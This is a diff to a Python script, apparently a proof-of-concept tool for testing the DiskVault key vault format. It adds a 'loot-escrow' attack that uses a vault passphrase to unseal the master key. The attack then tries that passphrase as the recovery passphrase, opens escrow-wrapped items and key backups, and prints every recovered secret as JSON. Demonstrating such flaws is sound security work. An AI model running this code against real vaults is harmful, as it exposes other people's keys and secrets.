@@ -12,6 +12,11 @@ Written against the on-disk format (Sources/DiskVault/KeyVault/KeyVaultFormat.sw
   forge-item-with-junk    the same with one more part sealed to no one
   loot-v1 KV CRED         the attack on key vault format 1: any credential unseals the master key, which
                           opens every secret; prints each secret's value (base64) by name
+  loot-escrow KV VAULT PASSFILE [RECOVERYFILE]
+                          a host that backs up into an encrypted vault (it holds the vault's passphrase)
+                          against the escrow wraps of a key vault escrowed to it and of the vault's key
+                          backups: every key the master key yields; with RECOVERYFILE, the escrow key too
+                          (the check that the attack itself works); prints JSON of what opened
 """
 import hashlib
 import base64, json, os, sys
@@ -270,7 +275,75 @@ def loot_v1(kv, cred_path):
     print(json.dumps(out))
 
 
+def loot_escrow(kv, vault, pass_file, recovery_file=None):
+    from cryptography.hazmat.primitives.kdf.scrypt import Scrypt
+    def scrypt(pw, kdf):
+        return Scrypt(salt=b64(kdf["salt"]), length=32, n=2 ** kdf["logN"], r=kdf["r"], p=kdf["p"]).derive(pw)
+    config = read_json(os.path.join(vault, "vault.json"))
+    vid = config["id"]
+    pw = open(pass_file, "rb").read()
+    enc = config["encryption"]
+    master = gcm_open(b64(enc["sealedMasterKey"]), scrypt(pw, enc["kdf"]), f"diskvault-vault-master:{vid}".encode())
+    assert master is not None, "the vault passphrase does not open the master key"
+    uses = ["blob", "chunk naming", "metadata", "key escrow", "escrow", "recovery"]
+    candidates = [master] + [hkdf(master, vid.encode(), f"diskvault vault {u}".encode()) for u in uses]
+    metadata = hkdf(master, vid.encode(), b"diskvault vault metadata")
+    def vault_object(key):
+        with open(os.path.join(vault, key), "rb") as f:
+            return gcm_open(f.read(), metadata, f"diskvault-vault:{vid}:{key}".encode())
+    escrow = json.loads(vault_object("escrow.json"))
+    sealed_private = b64(escrow["sealedPrivateKey"])
+    # The vault's passphrase tried as the recovery passphrase too.
+    for pwkey in [scrypt(pw, escrow["kdf"])] + candidates:
+        got = gcm_open(sealed_private, pwkey, f"diskvault-vault-escrow:{vid}".encode())
+        if got is not None:
+            candidates.append(got)
+    if recovery_file:
+        got = gcm_open(sealed_private, scrypt(open(recovery_file, "rb").read(), escrow["kdf"]), f"diskvault-vault-escrow:{vid}".encode())
+        assert got is not None, "the recovery passphrase does not open the escrow key"
+        candidates.append(got)
+    privates = []
+    for c in candidates:
+        try:
+            privates.append(X25519PrivateKey.from_private_bytes(c))
+        except Exception:
+            pass
+    # Every item: the key vault's own files, and every copy in the vault's key backups.
+    items = []
+    items_dir = os.path.join(kv, "items")
+    for name in sorted(os.listdir(items_dir)) if os.path.isdir(items_dir) else []:
+        items.append(json.loads(b64(read_json(os.path.join(items_dir, name))["payload"])))
+    for root, _, files in os.walk(os.path.join(vault, "disks")):
+        if "keys" in files:
+            blob = vault_object(os.path.relpath(os.path.join(root, "keys"), vault))
+            for copy in json.loads(blob)["items"]:
+                items.append(json.loads(b64(json.loads(b64(copy["file"]))["payload"])))
+    opened, tried, wraps = [], 0, 0
+    for item in items:
+        for part, sealed in item["parts"].items():
+            part_ad = f"item:{item['keyVault']}:{item['id']}:{part}".encode()
+            for name, wrap in sealed["wraps"].items():
+                if name.startswith("escrow:"):
+                    wraps += 1
+                ad = f"escrow:{item['keyVault']}:{item['id']}:{part}:{name[len('escrow:'):]}".encode()
+                for k in privates:
+                    tried += 1
+                    pkey = pk_open(b64(wrap["box"]), k, ad)
+                    plain = gcm_open(b64(sealed["box"]), pkey, part_ad) if pkey else None
+                    if plain is not None:
+                        opened.append({"item": item["id"], "part": part, "plaintext": e64(plain)})
+            for c in candidates:
+                tried += 1
+                plain = gcm_open(b64(sealed["box"]), c, part_ad)
+                if plain is not None:
+                    opened.append({"item": item["id"], "part": part, "plaintext": e64(plain)})
+    print(json.dumps({"items": len(items), "escrowWraps": wraps, "tried": tried, "opened": opened}))
+
+
 if __name__ == "__main__":
+    if sys.argv[1] == "loot-escrow":
+        loot_escrow(*sys.argv[2:])
+        sys.exit(0)
     verb, kv, cred = sys.argv[1:4]
     if verb == "forge-item-with-junk":
         forge_item(kv, cred, junk_part=True)
